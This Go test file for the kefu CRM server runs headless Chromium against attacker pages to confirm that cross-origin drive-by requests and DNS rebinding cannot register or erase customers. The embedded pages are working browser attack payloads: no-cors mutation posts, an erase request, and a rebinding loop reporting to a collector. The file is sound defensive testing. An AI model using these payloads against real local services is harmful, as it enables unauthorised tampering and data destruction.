package server_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os/exec"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/kefu-crm/kefu/internal/testenv"
)

// A web page is a client kefu did not choose: any site the operator visits
// can make the browser send requests to http://127.0.0.1:8080. These tests
// run the attacks of issue 13 §3 in headless Chromium against the real
// server without --auth (every caller a local ADMIN) and check the store:
// nothing may be written. The pages report what they saw to the attacker's
// own server.

// attackerSite serves one page and collects what the page reports.
type attackerSite struct {
	srv     *http.Server
	ln      net.Listener
	mu      sync.Mutex
	reports []string
	got     chan string
	next    string // what GET /next answers once set
}

// setNext makes GET /next answer u.
func (a *attackerSite) setNext(u string) {
	a.mu.Lock()
	a.next = u
	a.mu.Unlock()
}

func newAttackerSite(t *testing.T, ln net.Listener, page string) *attackerSite {
	t.Helper()
	a := &attackerSite{ln: ln, got: make(chan string, 256)}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /{$}", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = io.WriteString(w, page)
	})
	mux.HandleFunc("POST /report", func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		a.mu.Lock()
		a.reports = append(a.reports, string(b))
		a.mu.Unlock()
		select {
		case a.got <- string(b):
		default:
		}
		w.WriteHeader(http.StatusNoContent)
	})
	mux.HandleFunc("GET /next", func(w http.ResponseWriter, r *http.Request) {
		a.mu.Lock()
		next := a.next
		a.mu.Unlock()
		if next == "" {
			w.WriteHeader(http.StatusNoContent)
			return
		}
		_, _ = io.WriteString(w, next)
	})
	// Before the rebinding the page's same-origin /graphql is the
	// attacker's: it answers 418 so the page knows to try again.
	mux.HandleFunc("/graphql", func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusTeapot) })
	a.srv = &http.Server{Handler: mux, ReadHeaderTimeout: 5 * time.Second}
	go func() { _ = a.srv.Serve(ln) }()
	t.Cleanup(func() { _ = a.srv.Close() })
	return a
}

// wait returns the first report with the given prefix, or fails after d.
func (a *attackerSite) wait(t *testing.T, prefix string, d time.Duration) string {
	t.Helper()
	deadline := time.After(d)
	for {
		select {
		case r := <-a.got:
			if strings.HasPrefix(r, prefix) {
				return r
			}
		case <-deadline:
			a.mu.Lock()
			defer a.mu.Unlock()
			t.Fatalf("no %q report from the page within %v; reports: %q", prefix, d, a.reports)
			return ""
		}
	}
}

// browse opens url in headless Chromium and keeps it open until the test
// ends (the page runs in real time).
func browse(t *testing.T, url string, flags ...string) {
	t.Helper()
	bin := chromium(t)
	ctx, cancel := context.WithTimeout(t.Context(), 4*time.Minute)
	cmd := exec.CommandContext(ctx, bin, append(append(testenv.ChromiumFlags(t.TempDir()), flags...), url)...)
	// Chromium runs helper processes: stop the whole group it leads, so
	// none writes to its profile directory after the test removed it.
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	cmd.WaitDelay = 5 * time.Second
	if err := cmd.Start(); err != nil {
		cancel()
		t.Fatalf("chromium: %v", err)
	}
	t.Cleanup(func() {
		cancel()
		_ = cmd.Wait()
		// The group's helpers die with the signal; give them a moment to
		// be gone before the profile directory is removed.
		for range 50 {
			if syscall.Kill(-cmd.Process.Pid, 0) != nil {
				break
			}
			time.Sleep(20 * time.Millisecond)
		}
	})
}

func loopbackListener(t *testing.T) net.Listener {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	return ln
}

// registerMutation is the body a page sends to register customer id.
func registerMutation(id string) string {
	b, _ := json.Marshal(map[string]any{"query": fmt.Sprintf(`mutation { registerCustomer(input: {id: %q, name: "Drive-by"}) { customer { id } } }`, id)})
	return string(b)
}

// Given kefu without --auth on 127.0.0.1 and a page on another loopback
// origin, when the page sends mutations every way a page can without
// kefu's consent — no-cors POSTs of a Blob without a type, a Blob typed
// application/json, text/plain, a form encoding, and a CORS request with
// application/json (preflighted) —, then nothing is written; and once kefu
// is started with --cors-origin for that page's origin, the same page can
// call the API and read the answer.
func TestCrossOriginPageCannotDriveTheAPI(t *testing.T) {
	chromium(t)
	h := startServer(t, options{})
	h.register("victim", "Wang Fang", nil)
	before := h.head()

	attackLn := loopbackListener(t)
	kefuURL := h.http.URL + "/graphql"
	erase, _ := json.Marshal(map[string]any{"query": `mutation { eraseCustomer(input: {customerId: "victim", by: "drive-by", reason: "page"}) { version } }`})
	// One page, one browser: it runs the attacks, then asks its own server
	// (GET /next) for the address of a kefu that lists its origin and calls
	// that one. A second browser on a rebound port was the flaky part.
	page := fmt.Sprintf(`<!doctype html><html><body><script>
const kefu = %q;
async function report(s) { await fetch("/report", {method: "POST", body: s}); }
async function attempt(name, init) {
  try { const r = await fetch(kefu, init); let body = ""; try { body = await r.text(); } catch (e) {}
        await report(name + " status=" + r.status + " type=" + r.type + " body=" + body.slice(0, 300)); }
  catch (e) { await report(name + " threw " + e); }
}
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
(async () => {
  await report("loaded");
  await attempt("blob", {method: "POST", mode: "no-cors", body: new Blob([%q])});
  await attempt("blob-json", {method: "POST", mode: "no-cors", body: new Blob([%q], {type: "application/json"})});
  await attempt("text", {method: "POST", mode: "no-cors", body: %q});
  await attempt("form", {method: "POST", mode: "no-cors", body: new URLSearchParams({query: "x", q: %q})});
  await attempt("erase", {method: "POST", mode: "no-cors", body: new Blob([%q])});
  await attempt("cors-json", {method: "POST", headers: {"Content-Type": "application/json"}, body: %q});
  await report("done");
  let next = "";
  while (!next) { await sleep(100); try { const r = await fetch("/next"); if (r.status === 200) next = await r.text(); } catch (e) {} }
  for (let i = 0; i < 20; i++) {
    try { const r = await fetch(next, {method: "POST", headers: {"Content-Type": "application/json"}, body: %q});
          await report("allowed status=" + r.status + " body=" + await r.text()); return; }
    catch (e) { await report("retry " + i + " threw " + e); await sleep(250); }
  }
  await report("allowed threw every time");
})();
</script></body></html>`, kefuURL, registerMutation("nc-blob"), registerMutation("nc-blob-json"), registerMutation("nc-text"),
		registerMutation("nc-form"), string(erase), registerMutation("cors-json"), registerMutation("cors-ok"))
	site := newAttackerSite(t, attackLn, page)
	browse(t, "http://"+attackLn.Addr().String()+"/")
	site.wait(t, "done", 90*time.Second)
	site.mu.Lock()
	reports := append([]string(nil), site.reports...)
	site.mu.Unlock()
	t.Logf("the page saw: %q", reports)

	if got := h.head(); got != before {
		t.Errorf("the page wrote %d event(s) to the store", got-before)
	}
	for _, id := range []string{"nc-blob", "nc-blob-json", "nc-text", "nc-form", "cors-json"} {
		if r := h.post("", `query($id: ID!){ customer(id: $id){ id } }`, map[string]any{"id": id}); r.get("customer") != nil {
			t.Errorf("the page registered %s", id)
		}
	}
	if r := h.ok(`{ customer(id: "victim"){ erased } }`, nil); r.get("customer.erased") != false {
		t.Errorf("the page erased the victim: %s", r.Raw)
	}
	for _, rep := range reports {
		if strings.HasPrefix(rep, "cors-json") && !strings.Contains(rep, "threw") {
			t.Errorf("the CORS request from an unlisted origin was readable: %s", rep)
		}
	}

	// The same page, its origin listed on another kefu: the CORS request
	// runs and the page reads the answer.
	origin := "http://" + attackLn.Addr().String()
	h2 := startServer(t, options{cors: []string{origin}})
	site.setNext(h2.http.URL + "/graphql")
	rep := site.wait(t, "allowed", 90*time.Second)
	if !strings.Contains(rep, "status=200") || !strings.Contains(rep, `"id":"cors-ok"`) {
		t.Errorf("a listed origin could not call the API: %s", rep)
	}
	if r := h2.ok(`{ customer(id: "cors-ok"){ id } }`, nil); r.str("customer.id") != "cors-ok" {
		t.Errorf("the listed origin's mutation was not recorded: %s", r.Raw)
	}
}

// Given kefu without --auth on 127.0.0.1:K and a page of evil.example:K
// whose name then resolves to 127.0.0.1 (DNS rebinding: the attacker's
// server answered first, now kefu does, and the page's requests are
// same-origin), when the page posts a mutation to /graphql, then kefu sees
// "Host: evil.example:K", refuses it with 403, and nothing is written.
func TestDNSRebindingIsRefused(t *testing.T) {
	chromium(t)
	ln := loopbackListener(t)
	addr := ln.Addr().String()
	_, port, _ := net.SplitHostPort(addr)
	collectorLn := loopbackListener(t)
	collector := newAttackerSite(t, collectorLn, "")
	page := fmt.Sprintf(`<!doctype html><html><body><script>
const report = (s) => fetch(%q, {method: "POST", mode: "no-cors", body: s}).catch(() => {});
report("loaded " + location.host);
setInterval(async () => {
  try { const r = await fetch("/graphql", {method: "POST", headers: {"Content-Type": "application/json"}, body: %q});
        if (r.status !== 418) { report("kefu status=" + r.status + " body=" + (await r.text()).slice(0, 300)); } }
  catch (e) { report("error " + e); }
}, 250);
</script></body></html>`, "http://"+collectorLn.Addr().String()+"/report", registerMutation("rebound"))
	attacker := newAttackerSite(t, ln, page)
	browse(t, "http://evil.example:"+port+"/", "--host-resolver-rules=MAP evil.example 127.0.0.1")
	if got := collector.wait(t, "loaded", 60*time.Second); got != "loaded evil.example:"+port {
		t.Fatalf("the page did not load as evil.example: %q", got)
	}

	// Rebind: the attacker's server goes, kefu takes its address.
	_ = attacker.srv.Close()
	var kln net.Listener
	var err error
	for range 50 {
		if kln, err = net.Listen("tcp", addr); err == nil {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	if err != nil {
		t.Fatalf("kefu cannot take %s: %v", addr, err)
	}
	h := startServer(t, options{ln: kln})
	before := h.head()
	rep := collector.wait(t, "kefu", 60*time.Second)
	if !strings.Contains(rep, "status=403") || !strings.Contains(rep, "FORBIDDEN") {
		t.Errorf("kefu answered the rebound page: %s", rep)
	}
	time.Sleep(500 * time.Millisecond) // a few more tries
	if got := h.head(); got != before {
		t.Errorf("the rebound page wrote %d event(s)", got-before)
	}
	if r := h.post("", `{ customer(id: "rebound"){ id } }`, nil); r.get("customer") != nil {
		t.Errorf("the rebound page registered a customer")
	}
}
